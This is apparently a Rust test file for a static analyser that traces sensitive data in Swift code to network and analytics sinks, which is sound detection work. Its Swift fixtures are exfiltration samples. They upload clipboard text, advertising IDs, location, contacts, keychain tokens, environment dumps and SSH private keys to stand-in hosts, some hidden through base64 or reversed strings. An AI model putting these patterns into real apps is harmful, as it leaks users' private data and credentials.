//! One test per propagation construct: each says which data reaches which sink line.

use super::*;
use crate::syntax_index::SyntaxIndex;

fn parse(source: &str) -> tree_sitter::Tree {
    let mut parser = tree_sitter::Parser::new();
    parser
        .set_language(&tree_sitter_swift::LANGUAGE.into())
        .expect("grammar");
    parser.parse(source, None).expect("parse")
}

fn flows_with(source: &str, config: &Config) -> FileFlows {
    let tree = parse(source);
    analyze(&SyntaxIndex::new(&tree, source), config)
}

/// `(sink line, data reaching it)` for every sink with sensitive data, 1-based lines.
fn reached(source: &str) -> Vec<(usize, Vec<DataType>)> {
    flows_with(source, &Config::default())
        .sinks
        .iter()
        .filter(|s| !s.payload.is_clean())
        .map(|s| {
            let line = source[..s.range.start].matches('\n').count() + 1;
            let mut data: Vec<DataType> =
                s.payload.origins.iter().map(|o| o.data.clone()).collect();
            data.sort();
            data.dedup();
            (line, data)
        })
        .collect()
}

fn notes(source: &str) -> Vec<String> {
    flows_with(source, &Config::default())
        .sinks
        .iter()
        .flat_map(|s| s.payload.origins.first())
        .flat_map(|o| o.steps().into_iter().map(|s| s.note))
        .collect()
}

#[test]
fn let_bindings_and_string_interpolation() {
    let source = r#"
func send() {
    let text = UIPasteboard.general.string ?? ""
    let body = "clip=\(text)"
    URLSession.shared.uploadTask(with: request, from: Data(body.utf8)).resume()
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::Clipboard])]);
    assert_eq!(
        notes(source),
        [
            "the clipboard's contents is read here (UIPasteboard.general.string)",
            "`text` holds the clipboard's contents",
            "`body` holds the clipboard's contents",
        ]
    );
}

#[test]
fn reassignment_and_plus() {
    let source = r#"
func send() {
    var payload = "id="
    payload = payload + UIDevice.current.identifierForVendor!.uuidString
    AF.request("https://api.example.com/v1/register", method: .post, parameters: ["p": payload])
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::VendorId])]);
}

#[test]
fn dictionaries_and_json_serialization_into_http_body() {
    let source = r#"
func report(manager: Foo) {
    guard let loc = locationManager.location else { return }
    let body: [String: Any] = ["lat": loc.coordinate.latitude, "lon": loc.coordinate.longitude]
    var request = URLRequest(url: URL(string: "https://collector.example.net/loc")!)
    request.httpMethod = "POST"
    request.httpBody = try? JSONSerialization.data(withJSONObject: body)
    URLSession.shared.dataTask(with: request).resume()
}
"#;
    let flows = flows_with(source, &Config::default());
    let body = flows
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::RequestPart)
        .expect("httpBody sink");
    assert_eq!(body.payload.origins[0].data, DataType::Location);
    assert_eq!(
        body.destination.host().as_deref(),
        Some("collector.example.net")
    );
    // The body was reported where it was put in; sending the request adds nothing.
    let send = flows
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Transmit)
        .expect("dataTask");
    assert!(send.payload.is_clean());
    assert_eq!(
        send.destination.host().as_deref(),
        Some("collector.example.net")
    );
}

#[test]
fn url_query_from_interpolation_reaches_the_request() {
    let source = r#"
func ping() {
    let idfa = ASIdentifierManager.shared().advertisingIdentifier.uuidString
    let url = URL(string: "https://ads.example.org/track?idfa=\(idfa)")!
    let request = URLRequest(url: url)
    URLSession.shared.dataTask(with: request).resume()
}
"#;
    assert_eq!(reached(source), [(6, vec![DataType::AdvertisingId])]);
}

#[test]
fn properties_flow_between_methods() {
    let source = r#"
final class Tracker: NSObject, CLLocationManagerDelegate {
    private var lastLocation: CLLocation?
    func locationManager(_ manager: CLLocationManager, didUpdateLocations locations: [CLLocation]) {
        self.lastLocation = locations.last
    }
    func flush() {
        guard let location = lastLocation else { return }
        Analytics.logEvent("moved", parameters: ["where": "\(location.coordinate)"])
    }
}
"#;
    assert_eq!(reached(source), [(9, vec![DataType::Location])]);
}

#[test]
fn closures_bind_contacts_and_arrays_collect_them() {
    let source = r#"
func harvest() throws {
    let store = CNContactStore()
    var numbers: [String] = []
    try store.enumerateContacts(with: request) { contact, _ in
        numbers.append(contentsOf: contact.phoneNumbers.map { $0.value.stringValue })
    }
    let joined = numbers.joined(separator: ",")
    Mixpanel.mainInstance().track(event: "sync", properties: ["n": joined])
}
"#;
    assert_eq!(reached(source), [(9, vec![DataType::Contacts])]);
}

#[test]
fn helper_functions_summaries_return_and_sink() {
    let source = r#"
func currentIdentifier() -> String {
    return ASIdentifierManager.shared().advertisingIdentifier.uuidString
}
func post(_ value: String) {
    var request = URLRequest(url: URL(string: "https://metrics.example.com/id")!)
    request.httpBody = value.data(using: .utf8)
}
func start() {
    let id = currentIdentifier()
    post(id)
}
"#;
    let flows = flows_with(source, &Config::default());
    let sink = flows
        .sinks
        .iter()
        .find(|s| !s.payload.is_clean())
        .expect("flow");
    let line = source[..sink.range.start].matches('\n').count() + 1;
    assert_eq!(line, 7);
    let steps = sink.payload.origins[0].steps();
    let notes: Vec<&str> = steps.iter().map(|s| s.note.as_str()).collect();
    assert_eq!(
        notes,
        [
            "the advertising identifier (IDFA) is read here (ASIdentifierManager.advertisingIdentifier)",
            "returned by `currentIdentifier`",
            "`id` holds the advertising identifier (IDFA)",
            "passed to `post`",
        ]
    );
}

#[test]
fn if_let_guard_let_try_await() {
    let source = r#"
func upload() async throws {
    if let text = UIPasteboard.general.string {
        let data = try JSONEncoder().encode(["clip": text])
        _ = try await URLSession.shared.upload(for: request, from: data)
    }
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::Clipboard])]);
}

#[test]
fn keychain_out_argument_and_headers() {
    let source = r#"
func leak() {
    var item: CFTypeRef?
    SecItemCopyMatching(query as CFDictionary, &item)
    let token = String(data: item as! Data, encoding: .utf8)!
    request.setValue(token, forHTTPHeaderField: "X-Debug")
}
"#;
    assert_eq!(reached(source), [(6, vec![DataType::Keychain])]);
}

#[test]
fn health_query_callbacks_and_for_loops() {
    let source = r#"
func sync() {
    let query = HKSampleQuery(sampleType: type, predicate: nil, limit: 10, sortDescriptors: nil) { _, samples, _ in
        for sample in samples ?? [] {
            webSocket.send(.string("\(sample)")) { _ in }
        }
    }
    store.execute(query)
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::Health])]);
}

#[test]
fn consent_guards_mark_flows() {
    let source = r#"
func send() {
    guard settings.analyticsEnabled else { return }
    Analytics.setUserProperty(UIDevice.current.identifierForVendor?.uuidString, forName: "idfv")
}
func sendUnguarded() {
    if !hasUserConsent { print("no") }
    Analytics.setUserProperty(UIDevice.current.identifierForVendor?.uuidString, forName: "idfv")
}
func sendAfterEarlyExit() {
    if !hasUserConsent { return }
    Analytics.setUserProperty(UIDevice.current.identifierForVendor?.uuidString, forName: "idfv")
}
"#;
    let consented: Vec<bool> = flows_with(source, &Config::default())
        .sinks
        .iter()
        .map(|s| s.consented)
        .collect();
    assert_eq!(consented, [true, false, true]);
}

#[test]
fn on_device_use_reaches_no_sink() {
    let source = r#"
func show() {
    guard let location = locationManager.location else { return }
    mapView.setCenter(location.coordinate, animated: true)
    let pin = MKPointAnnotation()
    pin.coordinate = location.coordinate
    UserDefaults.standard.set(location.coordinate.latitude, forKey: "lastLat")
}
"#;
    assert!(reached(source).is_empty());
}

#[test]
fn counts_and_single_environment_variables_are_not_the_data() {
    let source = r#"
func send() {
    let contacts = try store.unifiedContacts(matching: predicate, keysToFetch: keys)
    let base = ProcessInfo.processInfo.environment["API_BASE"] ?? "https://api.example.com"
    AF.request(base + "/stats", parameters: ["contacts": contacts.count])
}
"#;
    assert!(reached(source).is_empty());
}

#[test]
fn environment_dumps_are_sources() {
    let source = r#"
func beacon() {
    let env = ProcessInfo.processInfo.environment
    let body = env.map { "\($0.key)=\($0.value)" }.joined(separator: "\n")
    AF.request("https://example.com/e", method: .post, parameters: ["e": body])
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::Environment])]);
}

#[test]
fn hosts_decoded_at_run_time_are_resolved() {
    let source = r#"
func beacon() {
    let host = String(data: Data(base64Encoded: "aHR0cHM6Ly8xODUuMTk5LjEwOC4xNTMvYw==")!, encoding: .utf8)!
    let endpoint = URL(string: host)!
    URLSession.shared.dataTask(with: endpoint).resume()
    let reversed = String("moc.elpmaxe.kcabllac//:sptth".reversed())
    URLSession.shared.dataTask(with: URL(string: reversed)!).resume()
    let bytes: [UInt8] = [104, 116, 116, 112, 58, 47, 47, 120, 46, 105, 111]
    URLSession.shared.dataTask(with: URL(string: String(bytes: bytes, encoding: .utf8)!)!).resume()
}
"#;
    let flows = flows_with(source, &Config::default());
    let destinations: Vec<(Option<String>, Option<Assembly>)> = flows
        .sinks
        .iter()
        .map(|s| (s.destination.host(), s.destination.assembly))
        .collect();
    assert_eq!(
        destinations,
        [
            (
                Some("185.199.108.153".to_owned()),
                Some(Assembly::Base64Decoded)
            ),
            (
                Some("callback.example.com".to_owned()),
                Some(Assembly::Reversed)
            ),
            (Some("x.io".to_owned()), Some(Assembly::FromBytes)),
        ]
    );
}

#[test]
fn aliases_resolve_handles() {
    let source = r#"
let pasteboard = UIPasteboard.general
func grab() {
    let copied = pasteboard.string
    Analytics.logEvent("paste", parameters: ["text": copied ?? ""])
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::Clipboard])]);
}

#[test]
fn computed_properties_and_tuples() {
    let source = r#"
struct Device {
    var name: String { UIDevice.current.name }
    func register() {
        let (label, version) = (name, "1.0")
        SentrySDK.setUser(User(userId: label))
        AF.request("https://api.example.com", parameters: ["v": version])
    }
}
"#;
    assert_eq!(reached(source), [(6, vec![DataType::DeviceName])]);
}

#[test]
fn installed_apps_probing() {
    let source = r#"
func probe() {
    let schemes = ["fb", "twitter", "venmo", "coinbase"]
    let installed = schemes.filter { UIApplication.shared.canOpenURL(URL(string: "\($0)://")!) }
    Amplitude.instance().logEvent("apps", withEventProperties: ["installed": installed])
}
"#;
    assert_eq!(reached(source), [(5, vec![DataType::InstalledApps])]);
}

#[test]
fn config_sources_and_sinks() {
    let config = Config::parse(
        "trustlint.toml",
        r#"
[data-upload]
sources = [{ language = "swift", call = "AcmeProfile.shared.email", data-type = "email" }]
sinks = [{ language = "swift", call = "AcmeTelemetry.send" }]
"#,
    )
    .unwrap();
    let source = r#"
func sync() {
    let email = AcmeProfile.shared.email
    AcmeTelemetry.send(["e": email])
}
"#;
    let flows = flows_with(source, &config);
    assert_eq!(flows.sinks.len(), 1);
    assert_eq!(
        flows.sinks[0].payload.origins[0].data,
        DataType::Custom("email".to_owned())
    );
}

#[test]
fn deep_nesting_does_not_overflow() {
    let mut source = String::from("func f() {\n let x = UIPasteboard.general.string\n");
    for _ in 0..3000 {
        source.push_str("if a {\n");
    }
    source.push_str("AF.request(u, parameters: [\"x\": x])\n");
    for _ in 0..3000 {
        source.push_str("}\n");
    }
    source.push_str("}\n");
    // Deeper than the engine follows: nothing found, and no crash.
    let flows = std::thread::Builder::new()
        .stack_size(256 * 1024 * 1024)
        .spawn(move || flows_with(&source, &Config::default()).sinks.len())
        .unwrap()
        .join()
        .unwrap();
    assert_eq!(flows, 0);
}

/// Every sink's host, in order, for sinks whose URL was resolved.
fn hosts(source: &str) -> Vec<String> {
    flows_with(source, &Config::default())
        .sinks
        .iter()
        .filter_map(|s| s.destination.host())
        .collect()
}

#[test]
fn url_passed_into_a_helper_resolves_at_each_call() {
    let source = r#"
func post(_ body: Data, to endpoint: String) {
    URLSession.shared.uploadTask(with: URLRequest(url: URL(string: endpoint + "/v1")!), from: body).resume()
}
func relay(_ body: Data, via hook: String) {
    post(body, to: hook)
}
func good() { relay(Data(), via: "https://api.example.com") }
func bad() { post(Data(), to: "https://discord.com/api/webhooks/1/x") }
"#;
    assert_eq!(hosts(source), ["api.example.com", "discord.com"]);
}

#[test]
fn helper_called_nowhere_keeps_an_unknown_destination() {
    let source = r#"
func post(_ body: Data, to endpoint: String) {
    URLSession.shared.uploadTask(with: URLRequest(url: URL(string: endpoint)!), from: body).resume()
}
"#;
    let flows = flows_with(source, &Config::default());
    assert_eq!(flows.sinks.len(), 1);
    assert_eq!(flows.sinks[0].destination.host(), None);
}

#[test]
fn key_files_by_path_by_walk_and_by_keychain_export() {
    let source = r#"
func steal(_ privateKey: SecKey, _ publicKey: SecKey) {
    let ssh = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa")
    AF.request(u, parameters: ["k": ssh])
    let pub = try! String(contentsOfFile: NSHomeDirectory() + "/.ssh/id_rsa.pub")
    AF.request(u, parameters: ["k": pub])
    for name in names where name.hasSuffix(".pem") {
        AF.upload(FileManager.default.contents(atPath: name)!, to: u)
    }
    AF.upload(FileManager.default.contents(atPath: "notes.txt")!, to: u)
    let raw = SecKeyCopyExternalRepresentation(privateKey, nil) as Data?
    AF.request(u, parameters: ["k": raw])
    let shared = SecKeyCopyExternalRepresentation(publicKey, nil) as Data?
    AF.request(u, parameters: ["k": shared])
}
"#;
    assert_eq!(
        reached(source),
        [
            (4, vec![DataType::KeyFile]),
            (8, vec![DataType::KeyFile]),
            (12, vec![DataType::KeyFile]),
        ]
    );
}
